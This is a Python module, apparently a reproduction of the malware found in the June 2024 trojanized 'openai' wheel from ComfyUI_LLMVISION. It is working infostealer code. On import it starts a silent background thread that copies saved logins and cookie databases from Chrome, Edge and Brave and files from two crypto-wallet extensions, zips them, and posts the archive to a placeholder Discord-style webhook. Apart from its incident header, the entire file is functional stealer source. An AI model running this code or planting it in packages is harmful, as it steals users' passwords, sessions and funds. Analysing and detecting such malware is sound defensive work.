# Incident: ComfyUI_LLMVISION (June 2024): module added to the trojanized "openai" wheel and
# imported from openai/__init__.py. It copies browser login/cookie databases and wallet
# extension storage, and posts them to a Discord webhook.
# Reference: https://github.com/AppleBotzz/ComfyUI_LLMVISION/issues/6
# Reproduction (own code, placeholder host).
import os
import shutil
import sqlite3
import tempfile
import threading
import zipfile

import requests

_HOOK = "https://discord-webhooks.example/api/webhooks/1234567890/placeholderTokenValue"

_BROWSERS = {
    "chrome": os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default"),
    "edge": os.path.join(os.getenv("LOCALAPPDATA", ""), "Microsoft", "Edge", "User Data", "Default"),
    "brave": os.path.join(os.getenv("LOCALAPPDATA", ""), "BraveSoftware", "Brave-Browser", "User Data", "Default"),
}
_WALLET_EXT = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"]


def _dump_logins(profile: str) -> list[str]:
    src = os.path.join(profile, "Login Data")
    if not os.path.exists(src):
        return []
    tmp = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(src, tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("SELECT origin_url, username_value, hex(password_value) FROM logins").fetchall()
    con.close()
    return ["\t".join(map(str, r)) for r in rows]


def _collect() -> str:
    out = os.path.join(tempfile.gettempdir(), "oai_cache.zip")
    with zipfile.ZipFile(out, "w") as z:
        for name, prof in _BROWSERS.items():
            z.writestr(f"{name}_logins.txt", "\n".join(_dump_logins(prof)))
            cookies = os.path.join(prof, "Network", "Cookies")
            if os.path.exists(cookies):
                z.write(cookies, f"{name}_cookies.db")
            for ext in _WALLET_EXT:
                store = os.path.join(prof, "Local Extension Settings", ext)
                for root, _, files in os.walk(store):
                    for f in files:
                        z.write(os.path.join(root, f), f"{name}/{ext}/{f}")
    return out


def _send() -> None:
    try:
        path = _collect()
        with open(path, "rb") as fh:
            requests.post(_HOOK, data={"content": os.getenv("USERNAME", "?")}, files={"file": ("data.zip", fh)}, timeout=30)
        os.remove(path)
    except Exception:
        pass


threading.Thread(target=_send, daemon=True).start()
